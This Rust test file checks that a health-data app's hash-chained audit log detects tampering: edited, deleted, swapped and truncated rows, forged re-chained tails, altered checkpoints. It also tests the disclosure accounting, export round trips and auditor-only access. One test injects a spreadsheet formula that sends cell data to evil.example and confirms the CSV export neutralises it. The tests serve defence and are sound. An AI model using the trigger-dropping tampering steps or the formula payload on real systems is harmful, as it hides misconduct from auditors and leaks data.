//! The audit log as evidence: tampering detected at the right sequence number, checkpoints,
//! export round trip, the accounting of disclosures, and who may read the log.

use std::process::Command;

use app::types::{PhiLevel, Role};
use attest::audit::chain::chain_hash;
use attest::audit::verify::verify_db;
use attest::audit::{AuditEvent, EventType};
use reqwest::StatusCode;
use serde_json::{json, Value};
use sqlx::Row;

use crate::helpers::{backend_is_postgres, Browser, TestApp};

/// A log of some length: sign-ins of a few users.
async fn app_with_log(n_users: usize) -> TestApp {
    let app = TestApp::spawn().await;
    for i in 0..n_users {
        let email = format!("log{i}@example.org");
        let pw = app.user(&email, Role::Researcher, PhiLevel::NotPhi).await;
        Browser::new(&app).login(&email, &pw).await;
    }
    app
}

/// Lifts the append-only triggers, as an attacker with database access would.
async fn drop_triggers(app: &TestApp) {
    if backend_is_postgres() {
        for t in ["audit_events", "audit_participant_declarations", "audit_participant_lists"] {
            sqlx::query(&format!("ALTER TABLE {t} DISABLE TRIGGER USER")).execute(&app.state.db.pool).await.unwrap();
        }
    } else {
        for t in [
            "audit_events_no_update",
            "audit_events_no_delete",
            "audit_participant_declarations_no_update",
            "audit_participant_declarations_no_delete",
            "audit_participant_lists_no_update",
            "audit_participant_lists_no_delete",
        ] {
            sqlx::query(&format!("DROP TRIGGER {t}")).execute(&app.state.db.pool).await.unwrap();
        }
    }
}

/// Runs SQL past the foreign keys too (a separate connection with them off).
async fn raw_exec(app: &TestApp, sql: &str) {
    use sqlx::{Connection, Executor};
    if backend_is_postgres() {
        let mut c = sqlx::PgConnection::connect(&app.database_url).await.unwrap();
        c.execute(format!("SET session_replication_role = replica; {sql}").as_str()).await.unwrap();
    } else {
        let mut c = sqlx::SqliteConnection::connect(&app.database_url).await.unwrap();
        c.execute(format!("PRAGMA foreign_keys = OFF; {sql}").as_str()).await.unwrap();
    }
}

async fn count(app: &TestApp) -> i64 {
    sqlx::query("SELECT COUNT(*) FROM audit_events").fetch_one(&app.state.db.pool).await.unwrap().get(0)
}

/// seq of the n-th event that has no participant rows (so rows can be moved freely).
async fn plain_seq(app: &TestApp, nth: usize) -> i64 {
    let rows = sqlx::query("SELECT seq FROM audit_events WHERE participants_json IS NULL AND participants_list IS NULL ORDER BY seq").fetch_all(&app.state.db.pool).await.unwrap();
    rows[nth].get(0)
}

async fn first_bad(app: &TestApp) -> Option<i64> {
    verify_db(&app.state.db, &[]).await.unwrap().problem.map(|p| p.seq)
}

#[tokio::test]
async fn a_clean_log_verifies_and_an_edited_field_is_named() {
    let app = app_with_log(6).await;
    assert_eq!(first_bad(&app).await, None);
    drop_triggers(&app).await;
    let target = plain_seq(&app, 4).await;
    sqlx::query("UPDATE audit_events SET user_email = 'someone.else@example.org' WHERE seq = $1").bind(target).execute(&app.state.db.pool).await.unwrap();
    let r = verify_db(&app.state.db, &[]).await.unwrap();
    let p = r.problem.unwrap();
    assert_eq!(p.seq, target);
    assert!(p.message.contains("altered"), "{}", p.message);
}

/// SQLite keeps whatever type is written; a number column holding text is an alteration, named
/// with its column (not a read error that stops verification).
#[tokio::test]
async fn a_value_of_the_wrong_type_is_named_as_an_alteration() {
    if backend_is_postgres() {
        return; // PostgreSQL refuses the write itself
    }
    let app = app_with_log(4).await;
    drop_triggers(&app).await;
    let target = plain_seq(&app, 2).await;
    sqlx::query("UPDATE audit_events SET at = 'yesterday' WHERE seq = $1").bind(target).execute(&app.state.db.pool).await.unwrap();
    let p = verify_db(&app.state.db, &[]).await.unwrap().problem.unwrap();
    assert_eq!(p.seq, target);
    assert_eq!(p.message, format!("event {target} was altered: its at holds a value of the wrong type"));
}

#[tokio::test]
async fn a_deleted_row_is_named() {
    let app = app_with_log(6).await;
    drop_triggers(&app).await;
    let target = plain_seq(&app, 3).await;
    sqlx::query("DELETE FROM audit_events WHERE seq = $1").bind(target).execute(&app.state.db.pool).await.unwrap();
    let p = verify_db(&app.state.db, &[]).await.unwrap().problem.unwrap();
    assert_eq!(p.seq, target);
    assert!(p.message.contains("missing"), "{}", p.message);
}

#[tokio::test]
async fn two_swapped_rows_are_named() {
    let app = app_with_log(6).await;
    drop_triggers(&app).await;
    let a = plain_seq(&app, 2).await;
    let b = a + 1;
    for (from, to) in [(a, -1), (b, a), (-1, b)] {
        sqlx::query("UPDATE audit_events SET seq = $1 WHERE seq = $2").bind(to).bind(from).execute(&app.state.db.pool).await.unwrap();
    }
    let p = verify_db(&app.state.db, &[]).await.unwrap().problem.unwrap();
    assert_eq!(p.seq, a, "{}", p.message);
}

#[tokio::test]
async fn a_truncated_tail_is_caught_by_a_checkpoint_and_so_is_a_rechained_one() {
    let app = app_with_log(6).await;
    let (size, head) = attest::audit::verify::head(&app.state.db).await.unwrap();
    let key = attest::audit::checkpoint::load_or_create_key(&app.dir.path().join("data")).unwrap();
    let cp = attest::audit::checkpoint::Checkpoint::sign(&key, size, &head, 0);
    assert_eq!(verify_db(&app.state.db, std::slice::from_ref(&cp)).await.unwrap().problem, None);

    drop_triggers(&app).await;
    let cut = size - 3;
    sqlx::query("DELETE FROM audit_participant_declarations WHERE first_seq > $1").bind(cut).execute(&app.state.db.pool).await.unwrap();
    sqlx::query("DELETE FROM audit_events WHERE seq > $1").bind(cut).execute(&app.state.db.pool).await.unwrap();
    // the chain alone is intact...
    assert_eq!(first_bad(&app).await, None);
    // ...the checkpoint says what is missing
    let p = verify_db(&app.state.db, std::slice::from_ref(&cp)).await.unwrap().problem.unwrap();
    assert_eq!(p.seq, cut + 1);
    assert!(p.message.contains("truncated"), "{}", p.message);

    // re-chain forged events on top, to the checkpoint's size and beyond
    let r = sqlx::query("SELECT hash FROM audit_events WHERE seq = $1").bind(cut).fetch_one(&app.state.db.pool).await.unwrap();
    let mut prev: String = r.get(0);
    for seq in cut + 1..=size + 2 {
        let e = AuditEvent::new(EventType::SignIn, 1);
        let h = chain_hash(&prev, seq, &e);
        sqlx::query("INSERT INTO audit_events (seq, at, event_type, outcome, prev_hash, hash) VALUES ($1, $2, $3, $4, $5, $6)")
            .bind(seq)
            .bind(e.at)
            .bind(&e.event_type)
            .bind(&e.outcome)
            .bind(&prev)
            .bind(&h)
            .execute(&app.state.db.pool)
            .await
            .unwrap();
        prev = h;
    }
    assert_eq!(first_bad(&app).await, None, "a re-chained log verifies on its own");
    let p = verify_db(&app.state.db, std::slice::from_ref(&cp)).await.unwrap().problem.unwrap();
    assert_eq!(p.seq, size);
    assert!(p.message.contains("does not extend the checkpoint"), "{}", p.message);
}

/// A long participant list is stored once and shared by every event that returned it; review
/// shows it in full, the chain still covers it, and the shared row cannot be edited unnoticed.
#[tokio::test]
async fn a_long_participant_list_is_stored_once_and_still_covered_by_the_chain() {
    let app = TestApp::spawn().await;
    app.import_synthea().await;
    let b = Browser::ready(&app, "pager@example.org", PhiLevel::NotPhi, PhiLevel::NotPhi).await;
    // the same page twice (a script paging over the same rows), then a short list
    for _ in 0..2 {
        assert_eq!(b.grid("synthea", "patients", json!({ "limit": 40 })).await.0, StatusCode::OK);
    }
    let f = json!([{ "column": "Id", "op": "eq", "value": "2de0b259-6c63-700d-9ac4-edcabff0861a" }]);
    assert_eq!(b.grid("synthea", "patients", json!({ "filters": f })).await.0, StatusCode::OK);

    let rows = sqlx::query("SELECT seq, participants_json, participants_list FROM audit_events WHERE event_type = 'data_access' ORDER BY seq")
        .fetch_all(&app.state.db.pool)
        .await
        .unwrap();
    assert_eq!(rows.len(), 3);
    let list: Vec<Option<String>> = rows.iter().map(|r| r.get(2)).collect();
    let inline: Vec<Option<String>> = rows.iter().map(|r| r.get(1)).collect();
    assert!(list[0].is_some() && list[0] == list[1], "{list:?}");
    assert_eq!((inline[0].as_deref(), inline[1].as_deref()), (None, None));
    assert_eq!(list[2], None);
    assert_eq!(inline[2].as_deref(), Some(r#"["2de0b259-6c63-700d-9ac4-edcabff0861a"]"#));
    let stored: Vec<(String, String)> = sqlx::query("SELECT hash, list_json FROM audit_participant_lists")
        .fetch_all(&app.state.db.pool)
        .await
        .unwrap()
        .iter()
        .map(|r| (r.get(0), r.get(1)))
        .collect();
    assert_eq!(stored.len(), 1);
    assert_eq!(Some(&stored[0].0), list[0].as_ref());
    assert_eq!(stored[0].0, attest::auth::token::sha256_hex(&stored[0].1));

    // the events read back with their 40 ids, and the log verifies
    let events = app.events_of("data_access").await;
    assert_eq!(events[0]["participants"].as_array().unwrap().len(), 40);
    assert_eq!(events[0]["participants"], events[1]["participants"]);
    assert_eq!(first_bad(&app).await, None);
    // "who saw this patient" finds both reads of the shared list
    let someone = events[0]["participants"].as_array().unwrap().iter().map(|v| v.as_str().unwrap()).find(|id| *id != "2de0b259-6c63-700d-9ac4-edcabff0861a").unwrap().to_string();
    let auditor = reviewer(&app, "aud@example.org", Role::Auditor).await;
    let (s, page) = auditor.get(&format!("/api/audit/events?participant={someone}&event_type=data_access")).await;
    assert_eq!(s, StatusCode::OK);
    let seqs: Vec<i64> = page["events"].as_array().unwrap().iter().map(|e| e["seq"].as_i64().unwrap()).collect();
    let first: i64 = rows[0].get(0);
    assert_eq!(seqs, vec![first + 1, first]);

    // an edited shared list is named at the first event that uses it
    drop_triggers(&app).await;
    sqlx::query("UPDATE audit_participant_lists SET list_json = '[]'").execute(&app.state.db.pool).await.unwrap();
    let p = verify_db(&app.state.db, &[]).await.unwrap().problem.unwrap();
    assert_eq!(p.seq, first);
    assert!(p.message.contains("altered"), "{}", p.message);
}

#[tokio::test]
async fn a_truncation_that_leaves_participant_rows_behind_is_named() {
    let app = TestApp::spawn().await;
    app.import_synthea().await;
    let b = Browser::ready(&app, "trunc@example.org", PhiLevel::NotPhi, PhiLevel::NotPhi).await;
    b.grid("synthea", "patients", json!({ "limit": 5 })).await;
    let last = count(&app).await;
    drop_triggers(&app).await;
    raw_exec(&app, &format!("DELETE FROM audit_events WHERE seq = {last}")).await;
    let p = verify_db(&app.state.db, &[]).await.unwrap().problem.unwrap();
    assert_eq!(p.seq, last);
    assert!(p.message.contains("truncated"));
}

#[tokio::test]
async fn the_command_line_verify_exits_0_only_for_a_clean_log_and_checks_checkpoints() {
    let app = app_with_log(3).await;
    let bin = env!("CARGO_BIN_EXE_attest");
    let data = app.dir.path().join("cli-data");
    let run = |args: &[&str]| {
        let out = Command::new(bin).args(["--database-url", &app.database_url]).args(args).env("ATTEST_LOG", "error").output().unwrap();
        (out.status.code().unwrap(), String::from_utf8_lossy(&out.stdout).to_string())
    };
    let (code, out) = run(&["audit", "checkpoint", "--write", "--data-dir", data.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}");
    let cp: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(cp["size"].as_i64().unwrap(), count(&app).await);
    let (code, out) = run(&["audit", "verify", "--data-dir", data.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}");
    assert!(out.starts_with("OK:"), "{out}");
    // the verification is itself in the log
    assert_eq!(app.events_of("audit_verify").await.len(), 1);

    // an altered checkpoint is refused
    let dir = data.join("checkpoints");
    let file = std::fs::read_dir(&dir).unwrap().next().unwrap().unwrap().path();
    let mut forged: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    forged["size"] = json!(cp["size"].as_i64().unwrap() + 100);
    std::fs::write(&file, forged.to_string()).unwrap();
    let (code, out) = run(&["audit", "verify", "--data-dir", data.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert!(out.contains("altered"), "{out}");
    std::fs::remove_file(&file).unwrap();

    drop_triggers(&app).await;
    sqlx::query("UPDATE audit_events SET outcome = 'refused' WHERE seq = 2").execute(&app.state.db.pool).await.unwrap();
    let (code, out) = run(&["audit", "verify", "--data-dir", data.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert!(out.starts_with("FAILED at event 2:"), "{out}");
}

async fn reviewer(app: &TestApp, email: &str, role: Role) -> Browser {
    let pw = app.user(email, role, PhiLevel::NotPhi).await;
    let mut b = Browser::new(app);
    b.login(email, &pw).await;
    b.declare("healthcare-operations", None, "not-phi").await;
    b
}

#[tokio::test]
async fn accounting_of_disclosures_for_one_patient_after_browser_and_key_accesses() {
    let app = TestApp::spawn().await;
    app.import_synthea().await;
    app.set_settings(json!({ "allow_session_keys": true })).await;
    let patient = "2de0b259-6c63-700d-9ac4-edcabff0861a";
    // a browser read of the patient's encounters
    let browser = Browser::ready(&app, "web@example.org", PhiLevel::Limited, PhiLevel::Limited).await;
    let f = json!([{ "column": "PATIENT", "op": "eq", "value": patient }]);
    assert_eq!(browser.grid("synthea", "encounters", json!({ "filters": f })).await.0, StatusCode::OK);
    // read again under the same declaration: a second disclosure, no second index row
    assert_eq!(browser.grid("synthea", "encounters", json!({ "filters": f })).await.0, StatusCode::OK);
    // a script's read of the patient record with a session key
    let script = Browser::ready(&app, "script@example.org", PhiLevel::Full, PhiLevel::Full).await;
    let (_, k) = script.post("/api/session-keys", json!({})).await;
    let key = k["key"].as_str().unwrap();
    let kb = Browser::with_key(&app, key);
    let (s, _) = kb.select_rows("synthea", &[("schemaName", "study"), ("query.queryName", "patients"), ("query.Id~eq", patient), ("query.columns", "Id,FIRST,BIRTHDATE")]).await;
    assert_eq!(s, StatusCode::OK);
    // an unrelated read
    browser.grid("synthea", "patients", json!({ "filters": [{ "column": "Id", "op": "eq", "value": "982192b6-6843-4011-ef46-32caaf87d8a9" }] })).await;

    let auditor = reviewer(&app, "auditor@example.org", Role::Auditor).await;
    let (s, list) = auditor.get(&format!("/api/audit/disclosures?participant={patient}")).await;
    assert_eq!(s, StatusCode::OK, "{list}");
    let list = list.as_array().unwrap();
    assert_eq!(list.len(), 3, "{list:?}");
    let index_rows: i64 = sqlx::query("SELECT COUNT(*) FROM audit_participant_declarations WHERE participant_id = $1")
        .bind(patient)
        .fetch_one(&app.state.db.pool)
        .await
        .unwrap()
        .get(0);
    assert_eq!(index_rows, 2, "one row per (participant, declaration)");
    assert_eq!(list[1]["dataset"], "encounters");
    assert_eq!(list[2]["dataset"], "encounters");
    let by_key = &list[0];
    assert_eq!(by_key["user_email"], "script@example.org");
    assert_eq!(by_key["via"], "session key");
    assert_eq!(by_key["dataset"], "patients");
    assert_eq!(by_key["phi_level"], "full");
    assert_eq!(by_key["activity"], "research-operations");
    assert_eq!(by_key["irb"], "IRB-2026-001");
    assert_eq!(by_key["columns"], json!(["Id", "FIRST", "BIRTHDATE"]));
    assert_eq!(by_key["phi_columns"], json!(["FIRST", "BIRTHDATE"]));
    let by_browser = &list[2];
    assert_eq!(by_browser["user_email"], "web@example.org");
    assert_eq!(by_browser["via"], "browser");
    assert_eq!(by_browser["dataset"], "encounters");
    assert_eq!(by_browser["phi_level"], "limited");

    // the same question through the review filters
    let (_, page) = auditor.get(&format!("/api/audit/events?participant={patient}&event_type=data_access")).await;
    assert_eq!(page["events"].as_array().unwrap().len(), 3);
    // and "what did this user see"
    let uid: i64 = sqlx::query("SELECT id FROM users WHERE email = 'script@example.org'").fetch_one(&app.state.db.pool).await.unwrap().get(0);
    let (s, act) = auditor.get(&format!("/api/audit/users/{uid}")).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(act["sessions"].as_array().unwrap().len(), 1);
    assert_eq!(act["declarations"][0]["phi_level"], "full");
    assert_eq!(act["keys"].as_array().unwrap().len(), 1);
    assert_eq!(act["reads"].as_array().unwrap().len(), 1);
    assert_eq!(act["reads"][0]["participants"], json!([patient]));
}

#[tokio::test]
async fn auditors_read_the_log_and_researchers_do_not() {
    let app = app_with_log(2).await;
    let researcher = reviewer(&app, "nosy@example.org", Role::Researcher).await;
    for path in ["/api/audit/events", "/api/audit/events/1", "/api/audit/disclosures?participant=x", "/api/audit/export?format=csv"] {
        let (s, e) = researcher.get(path).await;
        assert_eq!((s, e["error"].as_str()), (StatusCode::FORBIDDEN, Some("auditors_only")), "{path}");
    }
    assert_eq!(researcher.post("/api/audit/verify", json!({})).await.0, StatusCode::FORBIDDEN);
    let auditor = reviewer(&app, "aud@example.org", Role::Auditor).await;
    let (s, page) = auditor.get("/api/audit/events?limit=3").await;
    assert_eq!(s, StatusCode::OK);
    let seqs: Vec<i64> = page["events"].as_array().unwrap().iter().map(|e| e["seq"].as_i64().unwrap()).collect();
    assert_eq!(seqs.len(), 3);
    assert!(seqs.windows(2).all(|w| w[0] > w[1]), "newest first: {seqs:?}");
    let before = page["next_before"].as_i64().unwrap();
    let (_, next) = auditor.get(&format!("/api/audit/events?limit=3&before={before}")).await;
    assert!(next["events"][0]["seq"].as_i64().unwrap() < *seqs.last().unwrap());
    let (s, one) = auditor.get(&format!("/api/audit/events/{}", seqs[0])).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(one["seq"], seqs[0]);
    assert_eq!(one["hash"].as_str().unwrap().len(), 64);
    let (s, e) = auditor.get("/api/audit/events?from=yesterday").await;
    assert_eq!((s, e["field"].as_str()), (StatusCode::BAD_REQUEST, Some("from")));
    let (s, v) = auditor.post("/api/audit/verify", json!({})).await;
    assert_eq!((s, v["ok"].as_bool()), (StatusCode::OK, Some(true)), "{v}");
}

#[tokio::test]
async fn export_round_trip_csv_and_json_lines() {
    let app = app_with_log(4).await;
    let auditor = reviewer(&app, "exp@example.org", Role::Auditor).await;
    let res = auditor.raw(reqwest::Method::GET, "/api/audit/export?format=jsonl", None).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["content-type"], "application/x-ndjson");
    let text = res.text().await.unwrap();
    let lines: Vec<&str> = text.lines().collect();
    // everything up to and including the export's own event
    assert_eq!(lines.len() as i64, count(&app).await);
    let last: Value = serde_json::from_str(lines.last().unwrap()).unwrap();
    assert_eq!(last["event_type"], "audit_export");
    // the file verifies offline, with the library...
    let mut w = attest::audit::verify::Walker::new(&[]);
    for l in &lines {
        assert!(w.feed(&serde_json::from_str(l).unwrap()));
    }
    // ...and with the command line
    let file = app.dir.path().join("export.jsonl");
    std::fs::write(&file, &text).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_attest")).args(["audit", "verify", "--jsonl", file.to_str().unwrap(), "--no-local-checkpoints"]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
    // an edited line does not
    let edited = text.replacen("log0@example.org", "log9@example.org", 1);
    std::fs::write(&file, edited).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_attest")).args(["audit", "verify", "--jsonl", file.to_str().unwrap(), "--no-local-checkpoints"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));

    // CSV with a filter: a header and one row per sign-in event
    let res = auditor.raw(reqwest::Method::GET, "/api/audit/export?format=csv&event_type=sign_in", None).await;
    assert_eq!(res.headers()["content-type"], "text/csv; charset=utf-8");
    let csv_text = res.text().await.unwrap();
    let mut rdr = csv::Reader::from_reader(csv_text.as_bytes());
    assert_eq!(rdr.headers().unwrap().iter().collect::<Vec<_>>(), attest::audit::export::CSV_HEADER.to_vec());
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 5, "four log users and the auditor signed in");
    assert!(rows.iter().all(|r| &r[2] == "sign_in"));
    // exports are audited
    assert_eq!(app.events_of("audit_export").await.len(), 2);
}

/// A user agent (or filter, or SQL) that looks like a spreadsheet formula is exported to CSV
/// with a leading `'`, so opening the export runs nothing; the JSON Lines export keeps it exactly.
#[tokio::test]
async fn csv_export_neutralises_formulas() {
    let app = app_with_log(1).await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let mut attacker = Browser::new(&app);
    attacker.user_agent = formula.into();
    let (s, _) = attacker.post("/api/login", json!({ "email": "nobody@example.org", "password": "not the password at all" })).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED, "a failed sign-in is still recorded, with its user agent");
    let auditor = reviewer(&app, "csv-inj@example.org", Role::Auditor).await;
    let csv_text = auditor.raw(reqwest::Method::GET, "/api/audit/export?format=csv", None).await.text().await.unwrap();
    let mut rdr = csv::Reader::from_reader(csv_text.as_bytes());
    let ua = attest::audit::export::CSV_HEADER.iter().position(|h| *h == "user_agent").unwrap();
    let agents: Vec<String> = rdr.records().map(|r| r.unwrap()[ua].to_string()).collect();
    assert!(agents.contains(&format!("'{formula}")), "{agents:?}");
    assert!(!agents.iter().any(|a| a.starts_with('=')));
    let jsonl = auditor.raw(reqwest::Method::GET, "/api/audit/export?format=jsonl", None).await.text().await.unwrap();
    assert!(jsonl.lines().any(|l| serde_json::from_str::<Value>(l).unwrap()["user_agent"] == formula));
}
